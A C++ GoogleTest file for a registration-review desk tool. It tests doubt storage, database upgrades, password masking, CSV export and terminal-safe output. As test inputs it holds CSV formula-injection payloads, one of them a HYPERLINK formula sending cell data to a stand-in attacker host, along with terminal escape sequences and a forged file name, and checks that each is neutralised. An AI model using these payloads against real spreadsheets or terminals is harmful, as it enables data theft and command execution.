// The desk's core on its own: doubts kept as rows, also from a database of the first version;
// against hostile values a secret never kept in a doubt, a spreadsheet export that runs nothing
// and never overwrites the database, terminal output without control sequences, and a database
// that only an import creates, also twice at once.
#include <gtest/gtest.h>

#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <filesystem>
#include <sstream>

#include "desk/Export.h"
#include "desk/Printable.h"
#include "tests/support/desk_db_fixture.h"
#include "tests/support/sample_record.h"

namespace fs = std::filesystem;

namespace {

class CoreTest : public DeskDbTest {
protected:
    // Sample registration `n` as an importer would hand it over.
    static desk::Registration Sample(int n, const std::string& key, const std::vector<std::string>& doubts = {}) {
        desk::Registration r;
        r.record = corpus::SampleRecord(n);
        r.channel = "mail";
        r.dedupKey = key;
        for (const std::string& line : doubts) r.doubts.push_back(desk::DoubtFromLine(line));
        return r;
    }
    void Add(const desk::Registration& r) {
        desk::CDatabase db(db_.string());
        db.Add(r);
    }
};

}  // namespace

TEST_F(CoreTest, DoubtsAreKeptAsRowsWithTheirRivalsBoxesAndPages) {
    desk::Registration r = Sample(3, "sheet");
    r.channel = "fax";
    desk::Doubt zip;
    zip.field = "zip";
    zip.kind = desk::DoubtKind::Rival;
    zip.message = "\"50663\" could as well be \"60663\"";
    zip.rivals = {"60663", "50668\nx"};
    zip.confidence = 71;
    zip.page = 2;
    zip.box = {120, 840, 300, 40};
    desk::Doubt password = zip;
    password.field = "password_1";
    password.message = "could as well be another text one letter apart";
    password.rivals = {r.record.password_1 + "x"};  // an importer's slip: no rival of a secret is kept
    r.doubts = {zip, password};
    r.pages = {{2, 2480, 3508, "tiff-g4", std::string("II*\0page\0bytes", 14)}};
    Add(r);
    Add(Sample(4, "sound"));

    const std::vector<desk::StoredRegistration> review = Rows(true);
    ASSERT_EQ(1u, review.size());
    ASSERT_EQ(2u, review[0].doubts.size());
    const desk::Doubt& kept = review[0].doubts[0];
    EXPECT_EQ("zip", kept.field);
    EXPECT_EQ(desk::DoubtKind::Rival, kept.kind);
    EXPECT_EQ(zip.rivals, kept.rivals);
    EXPECT_EQ(71, kept.confidence);
    EXPECT_EQ(2, kept.page);
    EXPECT_EQ(840, kept.box.y);
    EXPECT_EQ(40, kept.box.height);
    EXPECT_EQ("page 2, zip: \"50663\" could as well be \"60663\"", kept.Line());
    EXPECT_TRUE(review[0].doubts[1].rivals.empty());
    desk::CDatabase db(db_.string());
    const std::optional<desk::StoredPage> page = db.Page(review[0].id, 2);
    ASSERT_TRUE(page);
    EXPECT_EQ(r.pages[0].bytes, page->bytes);
    EXPECT_EQ(3508, page->height);
    EXPECT_FALSE(db.Page(review[0].id, 1));
}

TEST_F(CoreTest, AFirstVersionDatabaseIsUpgradedInPlaceWithItsReasonsAsRows) {
    // Made by velkdesk before doubts were rows: a sound mail, a mail whose passwords differ, and
    // a faxed page whose reason quoted the password (as that version did).
    fs::copy_file(fs::path(DESK_FIXTURES) / "velkdesk-v1.db", db_);
    fs::permissions(db_, fs::perms::owner_read | fs::perms::owner_write);
    const std::vector<desk::StoredRegistration> rows = Rows();
    ASSERT_EQ(3u, rows.size());
    EXPECT_EQ("Anna", rows[0].record.vorname);
    EXPECT_TRUE(rows[0].doubts.empty());
    EXPECT_EQ(std::vector<std::string>{"password_2: differs from password_1"}, rows[1].ReviewLines());
    EXPECT_EQ(desk::DoubtKind::DiffersFromTwin, rows[1].doubts[0].kind);
    EXPECT_EQ((std::vector<std::string>{"page 1, password_1: \"***\" holds I or l, which look alike on paper",
                                        "page 1, vorname: read as \"Til\", mended by its drawing"}),
              rows[2].ReviewLines());
    EXPECT_EQ(desk::DoubtKind::LooksAlike, rows[2].doubts[0].kind);
    EXPECT_EQ(desk::DoubtKind::Mended, rows[2].doubts[1].kind);
    EXPECT_EQ(1, rows[2].doubts[1].page);
    EXPECT_EQ("Blume1493", rows[2].record.password_1);
    EXPECT_EQ(2u, Rows(true).size());
    int status = -1;
    EXPECT_EQ(std::string::npos, RunCli("list --review", &status).find("Blume1493"));
    // The record text came with schema 6: the old rows have none, and show says nothing of it.
    desk::CDatabase db(db_.string());
    const std::optional<desk::StoredRecordText> text = db.RecordText(rows[0].id);
    ASSERT_TRUE(text);
    EXPECT_EQ("", text->text);
    EXPECT_FALSE(text->Cut());
    EXPECT_EQ(std::string::npos, RunCli("show 1", &status).find("record text"));
    desk::CStatement version = db.Prepare("PRAGMA user_version");
    ASSERT_EQ(SQLITE_ROW, sqlite3_step(version.Get()));
    EXPECT_EQ(6, sqlite3_column_int(version.Get(), 0));
}

TEST_F(CoreTest, AMailsRecordTextIsKeptCutBeforeACharacterAndShownWithItsSecretsMasked) {
    desk::Registration r = Sample(9, "text");
    r.record.password_1 = r.record.password_2 = "Geheim-99";
    // The password also outside its tags, as a customer might repeat it.
    r.recordText = "> <new>\n> <password_1>Geheim-99</password_1>\n> <vorname>\x1b[2J</vorname>\nPS: Geheim-99\n";
    desk::Registration large = Sample(10, "large");
    // Three-byte characters, so 64 KiB falls inside one.
    for (large.recordText = "xx"; large.recordText.size() < desk::kMaxRecordText + 100;) large.recordText += "\xE2\x82\xAC";
    Add(r);
    Add(large);
    desk::CDatabase db(db_.string());
    const desk::StoredRecordText kept = *db.RecordText(1);
    EXPECT_EQ(r.recordText, kept.text);
    EXPECT_FALSE(kept.Cut());
    const desk::StoredRecordText cut = *db.RecordText(2);
    EXPECT_TRUE(cut.Cut());
    EXPECT_EQ(static_cast<std::int64_t>(large.recordText.size()), cut.size);
    EXPECT_EQ(desk::kMaxRecordText - 2, cut.text.size());
    EXPECT_EQ(0, large.recordText.compare(0, cut.text.size(), cut.text));
    EXPECT_EQ("\xAC", cut.text.substr(cut.text.size() - 1));  // ends after a whole character
    EXPECT_FALSE(db.RecordText(3));

    int status = -1;
    const std::string shown = RunCli("show 1", &status);
    EXPECT_NE(std::string::npos, shown.find("record text:\n  > <new>\n  > <password_1>(hidden)</password_1>\n"
                                            "  > <vorname> [2J</vorname>\n  PS: (hidden)\n")) << shown;
    EXPECT_EQ(std::string::npos, shown.find("Geheim-99"));
    EXPECT_NE(std::string::npos, RunCli("show 1 --with-passwords", &status).find("  > <password_1>Geheim-99</password_1>"));
    // A hostile secret that nearly matches a text of the same letter everywhere costs no time.
    RegistrationRecord hostile;
    hostile.password_1 = std::string(32 << 10, 'a') + "b";
    const std::string letters(desk::kMaxRecordText, 'a');
    EXPECT_EQ(letters, desk::MaskSecrets(letters, hostile));
    EXPECT_NE(std::string::npos, RunCli("show 2", &status).find("record text (its first " +
                                                                std::to_string(cut.text.size()) + " of " +
                                                                std::to_string(cut.size) + " bytes):"));
}

TEST(AnswersKeyTest, SameAnswersSameKeyAnyOtherAnswerAnotherKey) {
    RegistrationRecord a = corpus::SampleRecord(8);
    RegistrationRecord b = a;
    b.titel = "not an answer";  // the title comes from the product, not from the customer
    EXPECT_EQ(desk::AnswersKey(a), desk::AnswersKey(b));
    a.vorname = "S\xC3\xB6ren";
    a.nachname = "Ab";
    b.vorname = "S\xC3\xB6re";
    b.nachname = "nAb";  // the same letters split differently
    EXPECT_NE(desk::AnswersKey(a), desk::AnswersKey(b));
}

TEST_F(CoreTest, TheStoreCutsASecretOutOfAnyReasonItIsGiven) {
    const desk::Registration r = Sample(5, "guard");
    Add(Sample(5, "guard", {"password_1: \"" + r.record.password_1 + "\" could as well be \"x\"", "zip: missing"}));
    const std::vector<desk::StoredRegistration> rows = Rows();
    ASSERT_EQ(1u, rows.size());
    EXPECT_EQ("password_1: \"***\" could as well be \"x\"", rows[0].ReviewLines().at(0));
    EXPECT_EQ("zip: missing", rows[0].ReviewLines().at(1));
}

TEST_F(CoreTest, TheCsvExportRunsNoFormulaAndNeverOverwritesTheDatabase) {
    for (const char* formula : {"-2+3+cmd|' /C calc'!A0", "+1+HYPERLINK(\"http://evil.example/?\"&A1)", "=1+1",
                                "@SUM(A1)", "\tx", "\rx", "-", "+", "+49 221 x"}) {
        const std::string cell = desk::CsvCell(formula, ';');
        EXPECT_EQ('\'', cell[cell[0] == '"' ? 1 : 0]) << formula;
    }
    for (const char* phone : {"+49 (221) 123-45/67", "-5", "0221 123456", "1+1"}) EXPECT_EQ(phone, desk::CsvCell(phone, ';'));

    Add(Sample(1, "mail"));
    int status = -1;
    for (const std::string& target : {db_.string(), db_.string() + "-wal", (dir_ / "." / "desk.db").string()}) {
        const std::string out = RunCli("export --csv " + target, &status);
        EXPECT_EQ(1, status) << out;
        EXPECT_NE(std::string::npos, out.find("is the database or one of its files")) << out;
    }
    EXPECT_EQ(1u, Rows().size());

    // Personal data for its owner only, and a link at the target replaced, not written through.
    const fs::path elsewhere = Write("elsewhere.txt", "untouched");
    fs::create_symlink(elsewhere, dir_ / "export.csv");
    RunCli("export --csv " + (dir_ / "export.csv").string(), &status);
    EXPECT_EQ(0, status);
    EXPECT_FALSE(fs::is_symlink(dir_ / "export.csv"));
    EXPECT_EQ(fs::perms::owner_read | fs::perms::owner_write, fs::status(dir_ / "export.csv").permissions());
    std::ifstream kept(elsewhere);
    EXPECT_EQ("untouched", std::string(std::istreambuf_iterator<char>(kept), {}));
}


TEST_F(CoreTest, NothingPrintedCarriesControlSequencesFromValuesOrFileNames) {
    EXPECT_EQ("a ]0;x  b", desk::Printable("a\x1b]0;x\x07\nb"));
    EXPECT_EQ("?2J ? ?evil ?", desk::Printable("\xC2\x9B" "2J \xC2\x9D \xE2\x80\xAE" "evil \x9B"));
    EXPECT_EQ("Gr\xC3\xB6\xC3\x9F" "e", desk::Printable("Gr\xC3\xB6\xC3\x9F" "e"));

    desk::Registration r;
    r.record = corpus::SampleRecord(2);
    r.record.vorname = "\xC2\x9B" "2J\xE2\x80\xAE";
    r.record.city = "K\xC3\xB6ln\x1b]0;pwn\x07";
    r.channel = "mail";
    r.sourceFile = "x\x1b[2Jy";
    r.dedupKey = "controls";
    r.doubts = {desk::DoubtFromLine("firm: \xC2\x9B" "31m")};
    desk::CDatabase db(db_.string());
    db.Add(r);
    std::ostringstream out;
    desk::ListRegistrations(db, false, out);
    desk::ShowRegistration(*db.Find(1), false, out);
    for (const char* control : {"\x1b", "\xC2\x9B", "\xE2\x80\xAE", "\x07"})
        EXPECT_EQ(std::string::npos, out.str().find(control)) << out.str();

    // A file whose name forges a second line of velkdesk's own gets one error line.
    const fs::path forged = Write("x\x1b]0;pwn\x07\nvelkdesk: forged.eml", "no mail");
    int status = -1;
    const std::string errors = RunCli("import '" + forged.string() + "'", &status);
    EXPECT_EQ(1, status);
    EXPECT_EQ(std::string::npos, errors.find("\nvelkdesk: forged.eml")) << errors;
    EXPECT_EQ(std::string::npos, errors.find('\x1b')) << errors;
}


TEST_F(CoreTest, OnlyImportMakesADatabaseAndTwoMayMakeItAtOnce) {
    int status = -1;
    for (const char* command : {"list", "show 1", "export"}) {
        const std::string out = RunCli(command, &status);
        EXPECT_EQ(1, status) << command;
        EXPECT_NE(std::string::npos, out.find("no such database")) << out;
    }
    EXPECT_FALSE(fs::exists(db_));

    // Switching a new file to WAL once failed at once for the second of two openers.
    for (int run = 0; run < 12; ++run) {
        const fs::path fresh = dir_ / ("race" + std::to_string(run) + ".db");
        pid_t children[2];
        for (pid_t& child : children) {
            child = fork();
            if (child == 0) {
                try {
                    desk::CDatabase db(fresh.string());
                    _exit(0);
                } catch (const std::exception&) {
                    _exit(1);
                }
            }
        }
        for (pid_t child : children) {
            int childStatus = -1;
            waitpid(child, &childStatus, 0);
            EXPECT_TRUE(WIFEXITED(childStatus) && WEXITSTATUS(childStatus) == 0) << "run " << run;
        }
    }
}
